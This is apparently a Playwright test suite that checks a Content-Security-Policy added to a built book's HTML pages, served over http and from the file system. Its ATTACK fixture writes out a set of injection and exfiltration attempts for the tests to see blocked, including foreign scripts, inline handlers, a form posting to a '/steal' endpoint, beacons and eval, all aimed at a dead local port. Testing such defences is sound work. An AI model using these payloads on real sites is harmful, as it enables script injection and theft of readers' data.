"""A real browser holds pages to the policy that the last step gives them, over http and from the file system."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from beyond_scaling.bookbuild.finish import policy
from beyond_scaling.bookbuild.finish.site import MARK, Site

from ..conftest import ROOT

HTML = Path(os.environ.get("BOOK_HTML", ROOT / "_build" / "html"))
FOREIGN = "http://127.0.0.1:9"  # nobody listens there, so whatever is not refused fails otherwise

# Everything a page could be made to do by words that got into it; what the browser refused is kept in `refused`.
PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>A page</title>
<script>
  window.refused = [];
  addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective + " " + e.blockedURI));
</script>
<link rel="stylesheet" href="own.css"><script src="own.js"></script>
<style>p { margin-left: 7px; }</style>
</head><body>
<p style="margin-top: 3px">Words.</p><img id="own" src="own.svg"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<form action="own.html"><button>go</button></form>
<script>window.inside = true;</script>
</body></html>
"""

ATTACK = f"""async () => {{
  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
  add("script", {{ src: "{FOREIGN}/a.js" }});
  add("script", {{ src: "data:text/javascript,window.evil=1" }});
  add("script", {{ textContent: "window.evil = 2" }});
  add("script", {{ src: URL.createObjectURL(new Blob(["window.evil = 3"], {{ type: "text/javascript" }})) }});
  add("img", {{ src: "{FOREIGN}/a.png?what-the-reader-wrote" }});
  add("link", {{ rel: "stylesheet", href: "{FOREIGN}/a.css" }});
  add("iframe", {{ src: "{FOREIGN}/a.html" }});
  add("object", {{ data: "{FOREIGN}/a.swf" }});
  add("div", {{ innerHTML: '<img src="own.svg" onload="window.evil = 4">' }});
  add("form", {{ action: "{FOREIGN}/steal", id: "steal" }});
  add("base", {{ href: "{FOREIGN}/" }});
  document.getElementById("steal").submit();
  const tries = [
    () => fetch("{FOREIGN}/a.json"), () => import("{FOREIGN}/a.mjs"), () => new WebSocket("ws://127.0.0.1:9/"),
    () => navigator.sendBeacon("{FOREIGN}/b"), () => new Worker("own.js"), () => setTimeout("window.evil = 5", 0),
  ];
  for (const attempt of tries) try {{ await attempt(); }} catch (error) {{ /* refused; the violation says so */ }}
  await new Promise((resolve) => setTimeout(resolve, 300));
}}"""

# A program from a text, tried by a script of the page itself: what a driver evaluates is exempt.
OWN = """window.own = true;
addEventListener("load", () => {
  for (const make of [() => eval("window.evil = 6"), () => new Function("window.evil = 7")()]) {
    try { make(); } catch (error) { window.noEval = (window.noEval ?? 0) + (error instanceof EvalError ? 1 : 0); }
  }
});
"""


@pytest.fixture(scope="session")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("guarded")
    for name, text in {
        "index.html": PAGE,
        "own.html": PAGE,
        "own.js": OWN,
        "own.css": "p { padding-left: 5px; }",
        "own.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"></svg>',
    }.items():
        (folder / name).write_text(text, encoding="utf-8")
    policy.run(Site(folder))
    return folder


@pytest.fixture(params=["http", "file"])
def base(request: pytest.FixtureRequest, guarded: Path, serve: Callable[[Path], str]) -> str:
    return serve(guarded) if request.param == "http" else guarded.as_uri()


def test_the_pages_own_things_work(page: Page, base: str):
    page.goto(f"{base}/index.html", wait_until="load")
    style = "(() => { const s = getComputedStyle(document.querySelector('p')); return"
    assert page.evaluate(f"{style} [s.paddingLeft, s.marginLeft, s.marginTop]; }})()") == ["5px", "7px", "3px"]
    assert page.evaluate("[window.own, window.inside, document.getElementById('own').naturalWidth]") == [True, True, 9]
    assert page.evaluate("window.noEval") == 2
    assert [what for what in page.evaluate("refused") if not what.startswith("script-src eval")] == []
    page.get_by_role("button", name="go").click()
    page.wait_for_url("**/own.html?")


def test_nothing_foreign_gets_in_or_out(page: Page, base: str):
    asked: list[str] = []
    page.goto(f"{base}/index.html", wait_until="load")
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: "csp" in (request.failure or "") or asked.append(request.url))
    page.evaluate(ATTACK)
    assert page.evaluate("window.evil") is None
    refused = page.evaluate("refused")
    directives = {what.split()[0] for what in refused}
    expected = {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "connect-src", "frame-src",
                "object-src", "form-action", "base-uri"}  # fmt: skip
    if base.startswith("http"):
        expected.add("worker-src")  # in the file system Chromium starts no worker at all
    assert expected <= directives, refused
    assert [url for url in asked if url.startswith((FOREIGN, "ws:"))] == []
    assert page.url == f"{base}/index.html"


@pytest.mark.book
def test_every_page_of_the_book_has_its_policy(browser: Browser):
    site = Site(HTML)
    assert (HTML / MARK).exists(), "the book is not finished: run `make book`"
    wrong = []
    for name in site.pages():
        html = site.read(name)
        wanted = policy.policy(policy.read(html).scripts)
        if html.count(f'http-equiv="Content-Security-Policy" content="{wanted}"') != 1:
            wrong.append(name)
    assert wrong == []


@pytest.mark.book
@pytest.mark.parametrize("scheme", ["http", "file"])
def test_the_book_refuses_what_is_foreign(page: Page, serve: Callable[[Path], str], scheme: str):
    """One page with a widget; that no page breaks its own policy is seen in test_pages.py, by an empty console."""
    name = next(name for name in Site(HTML).pages() if 'class="bs-view"' in Site(HTML).read(name))
    page.add_init_script(
        "window.refused = []; addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));"
    )
    page.goto(f"{serve(HTML) if scheme == 'http' else HTML.as_uri()}/{name}")
    page.wait_for_selector(".bs-view[data-ready]")
    assert page.evaluate("refused") == []
    page.evaluate(ATTACK.replace("own.svg", json.dumps("data:image/gif;base64,R0lGODlhAQABAAAAACw=")[1:-1]))
    assert page.evaluate("window.evil") is None
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= set(page.evaluate("refused"))
